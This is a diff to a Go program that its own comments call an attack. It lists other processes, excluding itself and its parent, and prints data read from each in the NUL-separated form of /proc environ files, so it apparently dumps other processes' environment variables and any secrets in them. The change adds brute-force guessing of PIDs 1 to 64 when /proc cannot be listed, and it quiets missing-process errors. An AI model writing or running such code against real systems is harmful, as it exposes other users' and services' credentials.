@@ -16,10 +16,17 @@ const mostStack = 128 << 10
 
 var errNothing = errors.New("nothing is in what was read")
 
-// others are the processes that can be seen here and that are not of this attack.
+const mostGuessed = 64
+
+// others are the processes that can be seen here and that are not of this attack; where none may be listed, numbers to be tried.
 func others() []int {
 	found := []int{}
-	entries, _ := os.ReadDir("/proc")
+	entries, err := os.ReadDir("/proc")
+	for pid := 1; err != nil && pid <= mostGuessed; pid++ {
+		if pid != os.Getpid() && pid != os.Getppid() {
+			found = append(found, pid)
+		}
+	}
 	for _, entry := range entries {
 		pid, err := strconv.Atoi(entry.Name())
 		if err == nil && pid != os.Getpid() && pid != os.Getppid() {
@@ -40,7 +47,7 @@ func ofOthers(variable string, read func(pid int) ([]byte, error)) error {
 		if err == nil {
 			worked = true
 			fmt.Printf("%d: %s\n", pid, bytes.ReplaceAll(bytes.Trim(content, "\x00"), []byte{0}, []byte{'\n'}))
-		} else if !errors.Is(last, syscall.EPERM) {
+		} else if !errors.Is(last, syscall.EPERM) && !errors.Is(err, syscall.ENOENT) {
 			last = err
 		}
 	}
